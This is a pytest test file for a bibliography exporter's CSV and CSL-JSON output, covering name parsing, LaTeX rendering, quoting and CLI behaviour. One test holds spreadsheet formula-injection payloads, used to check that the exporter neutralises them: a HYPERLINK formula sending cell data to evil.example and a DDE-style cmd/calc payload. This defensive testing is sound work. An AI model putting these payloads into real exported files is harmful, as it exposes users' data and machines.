"""Tests of ``tc-survey export-json`` and ``export-csv`` (sphinx_tc_ext.core.export)."""

from __future__ import annotations

import argparse
import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sphinx_tc_ext.cache.parse_cache import load_bibliography
from sphinx_tc_ext.cli import export as export_cli
from sphinx_tc_ext.core import export
from sphinx_tc_ext.core.bibread import parse_bib_text
from sphinx_tc_ext.core.taxonomy import load_taxonomy

REPO = Path(__file__).parent.parent
SURVEY = REPO / "tests" / "data" / "corpus" / "survey.bib"  # a frozen copy: editing refs/ cannot break these
TAXONOMY = REPO / "tests" / "data" / "corpus" / "taxonomy.toml"

#: Item types of the CSL 1.0.2 schema that this exporter may produce.
CSL_TYPES = {"article", "article-journal", "paper-conference", "book", "chapter", "thesis", "report"}

HANDWRITTEN = r"""
@inproceedings{doe2024gpu,
  title = {Fast {GPU} Tokens: 80\% Fewer, M{\"u}ller \& Co},
  author = {M{\"u}ller, Hans and van der Berg, Anna and Smith, Jr., John and {OpenAI}},
  booktitle = {Proceedings of the IEEE/CVF Conference on Computer Vision and Pattern Recognition (CVPR)},
  year = {2024},
  doi = {10.1000/xyz},
  shortvenue = {CVPR 2024 Highlight},
  areas = {image, video},
  categories = {attention},
  cost = {training-free},
  code = {https://github.com/doe/gpu},
  project = {https://doe.example.org},
  added = {2025-07-29}
}

@article{broken,
  title = {Unclosed
"""


@pytest.fixture(scope="module")
def taxonomy():
    return load_taxonomy(TAXONOMY)


@pytest.fixture(scope="module")
def survey(taxonomy):
    bib = load_bibliography(SURVEY, taxonomy)
    assert bib.problems == []
    return bib


@pytest.fixture(scope="module")
def items(survey, taxonomy):
    return {item["id"]: item for item in json.loads(export.to_csl_json(survey, taxonomy))}


@pytest.fixture(scope="module")
def rows(survey, taxonomy):
    return {row["key"]: row for row in csv.DictReader(io.StringIO(export.to_csv(survey, taxonomy)))}


def run(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="tc-survey")
    export_cli.register(parser.add_subparsers())
    args = parser.parse_args(argv)
    return args.func(args)


# -- CSL-JSON ---------------------------------------------------------------------------------

def test_json_has_every_paper_in_bib_order(survey, taxonomy):
    data = json.loads(export.to_csl_json(survey, taxonomy))
    assert [item["id"] for item in data] == list(survey.papers)
    assert len(data) == 166
    assert {item["type"] for item in data} <= CSL_TYPES
    for item in data:
        assert item["title"] and item["issued"]["date-parts"][0][0] >= 2000
        assert isinstance(item["areas"], list) and item["areas"]
        assert isinstance(item.get("categories", []), list)


def test_json_preprint_item(items):
    survey = items["shao2025tokens"]
    assert survey["type"] == "article"
    assert survey["title"].startswith("When Tokens Talk Too Much")
    assert survey["author"][0] == {"family": "Shao", "given": "Kele"}
    assert len(survey["author"]) == 10
    assert survey["issued"] == {"date-parts": [[2025, 7]]}
    assert survey["publisher"] == "arXiv" and survey["number"] == "arXiv:2507.20198"
    assert "container-title" not in survey
    assert survey["URL"] == "https://arxiv.org/abs/2507.20198"
    # Our own fields as extra keys.
    assert survey["shortvenue"] == "arXiv 2025.07"
    assert survey["eprint"] == "2507.20198"
    assert survey["areas"] == ["image", "video", "audio", "survey"]
    assert survey["categories"] == []
    assert "cost" not in survey
    assert survey["code"] == "https://github.com/cokeshao/Awesome-Multimodal-Token-Compression"
    assert survey["added"] == "2025-07-29"


def test_json_published_items(items):
    vflow = items["yang2025vflowopt"]
    assert vflow["type"] == "paper-conference"
    assert vflow["container-title"].endswith("International Conference on Computer Vision (ICCV)")
    assert vflow["issued"] == {"date-parts": [[2025]]}
    assert vflow["cost"] == "training-based"
    assert vflow["added"] == "2025-08-14"
    onevision = items["li2025llava"]
    assert onevision["type"] == "article-journal"
    assert onevision["container-title"] == "Transactions on Machine Learning Research"
    assert items["qwen2025qwen2"]["author"] == [{"literal": "Qwen Team"}]
    assert "80% Visual Tokens" in items["yao2025timechat"]["title"]


def test_json_renders_latex_and_names(taxonomy):
    bib = parse_bib_text(HANDWRITTEN, "hand.bib", taxonomy)
    assert [p.subtype for p in bib.problems] == ["syntax"]  # the broken entry is reported and skipped
    (item,) = json.loads(export.to_csl_json(bib, taxonomy))
    assert item["title"] == "Fast GPU Tokens: 80% Fewer, Müller & Co"
    assert item["author"] == [
        {"family": "Müller", "given": "Hans"},
        {"family": "Berg", "given": "Anna", "non-dropping-particle": "van der"},
        {"family": "Smith", "given": "John", "suffix": "Jr."},
        {"literal": "OpenAI"},
    ]
    assert item["DOI"] == "10.1000/xyz"
    assert item["shortvenue"] == "CVPR 2024 Highlight"
    assert item["project"] == "https://doe.example.org"
    assert item["areas"] == ["image", "video"]


def test_exports_show_case_protected_titles_without_braces(taxonomy):
    """``fmt`` braces capitals for BibTeX styles (``{LLaVA}-{PruMerge}``); no export shows those braces."""
    text = HANDWRITTEN.replace(r"Fast {GPU} Tokens: 80\% Fewer", r"{LLaVA}-{PruMerge}: {ViTs} in {3D}, 80\% Fewer")
    bib = parse_bib_text(text, "hand.bib", taxonomy)
    shown = "LLaVA-PruMerge: ViTs in 3D, 80% Fewer, Müller & Co"
    (item,) = json.loads(export.to_csl_json(bib, taxonomy))
    assert item["title"] == shown
    (row,) = csv.DictReader(io.StringIO(export.to_csv(bib, taxonomy)))
    assert row["title"] == shown


# -- CSV ----------------------------------------------------------------------------------------

def test_csv_columns_and_rows(survey, taxonomy, rows):
    text = export.to_csv(survey, taxonomy)
    header = text.splitlines()[0].split(",")
    assert header == export.csv_columns(taxonomy)
    assert header[:3] == ["key", "type", "title"] and "areas" in header and header[-1] == "added"
    assert list(rows) == list(survey.papers)
    assert len(rows) == 166


def test_csv_multi_values_are_joined(rows):
    survey = rows["shao2025tokens"]
    assert survey["areas"] == "image; video; audio; survey"
    assert survey["authors"].startswith("Kele Shao; Keda Tao; Kejia Zhang")
    assert (survey["year"], survey["month"]) == ("2025", "7")
    assert survey["venue_kind"] == "preprint"
    assert survey["eprint"] == "2507.20198"
    meteor = rows["liu2025meteor"]
    assert meteor["categories"] == "similarity; attention"
    assert meteor["venue"].endswith("(ICCV)") and meteor["shortvenue"] == "ICCV 2025"
    assert meteor["month"] == ""
    folder = rows["wang2025folder"]
    assert "Victor Quétu" in folder["authors"]


def test_csv_quotes_commas_and_quotes(taxonomy):
    text = r"""@article{a2025b,
  title = {Commas, "Quotes" and; Semicolons},
  author = {Li, Hai "Helen" and Doe, Jane},
  journal = {arXiv preprint arXiv:2501.00001},
  year = {2025},
  areas = {image}
}
"""
    bib = parse_bib_text(text, "x.bib", taxonomy)
    (row,) = csv.DictReader(io.StringIO(export.to_csv(bib, taxonomy)))
    assert row["title"] == 'Commas, "Quotes" and; Semicolons'
    assert row["authors"] == 'Hai "Helen" Li; Jane Doe'


def test_csv_neutralises_formulas(taxonomy):
    text = r"""@inproceedings{=cmd2025,
  title = {=HYPERLINK("https://evil.example/?"&A1, "click")},
  author = {{@SUM(1+1)} and Doe, Jane},
  booktitle = {-2+3 Workshop},
  year = {2025},
  areas = {image},
  shortvenue = {+cmd|' /C calc'!A0},
  added = {2025-07-29}
}
"""
    bib = parse_bib_text(text, "x.bib", taxonomy)
    data = export.to_csv(bib, taxonomy)
    (row,) = csv.DictReader(io.StringIO(data))
    assert row["key"] == "'=cmd2025"
    assert row["title"] == ''''=HYPERLINK("https://evil.example/?"&A1, "click")'''
    assert row["authors"] == "'@SUM(1+1); Jane Doe"
    assert row["venue"] == "'-2+3 Workshop"
    assert row["shortvenue"] == "'+cmd|' /C calc'!A0"
    assert row["added"] == "2025-07-29" and row["type"] == "inproceedings"
    for value in ("'=cmd2025", "'@SUM(1+1); Jane Doe", "'-2+3 Workshop"):
        assert f'"{value}"' in data  # quoted as well


@given(st.text(max_size=20))
def test_csv_cells_read_back_and_never_start_a_formula(value):
    (read_back,) = next(csv.reader(io.StringIO(export.csv_cell(value) + "\n"))) or [""]
    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert read_back == "'" + value
    else:
        assert read_back == value
    assert not read_back.startswith(("=", "+", "-", "@", "\t", "\r"))


# -- command line ---------------------------------------------------------------------------------

def test_cli_writes_files_deterministically(survey, taxonomy, tmp_path, capsys):
    out_json, out_csv = tmp_path / "papers.json", tmp_path / "out" / "papers.csv"
    assert run(["export-json", str(SURVEY), "-o", str(out_json), "--taxonomy", str(TAXONOMY)]) == 0
    assert run(["export-csv", str(SURVEY), "-o", str(out_csv), "--taxonomy", str(TAXONOMY)]) == 0
    assert "wrote 166 papers" in capsys.readouterr().out
    assert out_json.read_text(encoding="utf-8") == export.to_csl_json(survey, taxonomy)
    assert out_csv.read_text(encoding="utf-8") == export.to_csv(survey, taxonomy)
    text = out_json.read_text(encoding="utf-8")
    assert len(json.loads(text)) == 166
    assert "Quétu" in text and "\\u00e9" not in text  # unicode written as is


def test_cli_stdout_and_problems(tmp_path, capsys):
    bib = tmp_path / "hand.bib"
    bib.write_text(HANDWRITTEN, encoding="utf-8")
    assert run(["export-csv", str(bib), "-o", "-", "--taxonomy", str(TAXONOMY)]) == 0
    captured = capsys.readouterr()
    assert captured.out.startswith("key,type,title,")
    assert "doe2024gpu" in captured.out and "broken" not in captured.out
    assert f"{bib}:17: entry 'broken' skipped" in captured.err


def test_cli_bad_taxonomy(tmp_path, capsys):
    bad = tmp_path / "taxonomy.toml"
    bad.write_text("not toml [", encoding="utf-8")
    assert run(["export-json", str(SURVEY), "-o", str(tmp_path / "x.json"), "--taxonomy", str(bad)]) == 1
    assert "not valid TOML" in capsys.readouterr().err


COINS_TEXT = st.text(alphabet=st.sampled_from("aZ09 _.-~:/,&=+%?#é\u2011'\"()[]{}"), max_size=30) | st.text()


@given(COINS_TEXT, COINS_TEXT)
def test_coins_quoting_is_urlencode(name, value):
    from urllib.parse import urlencode

    pairs = [(name, value), ("rft.title", value)]
    assert "&".join(f"{export._form_quote(n)}={export._form_quote(v)}" for n, v in pairs) == \
        urlencode(pairs, safe=":/,")


def test_coins_titles_of_the_survey_are_urlencoded(survey, taxonomy):
    from urllib.parse import urlencode

    for paper in survey.papers.values():
        assert export.coins_title(paper, taxonomy) == \
            urlencode(export.coins_pairs(export.csl_item(paper, taxonomy)), safe=":/,")
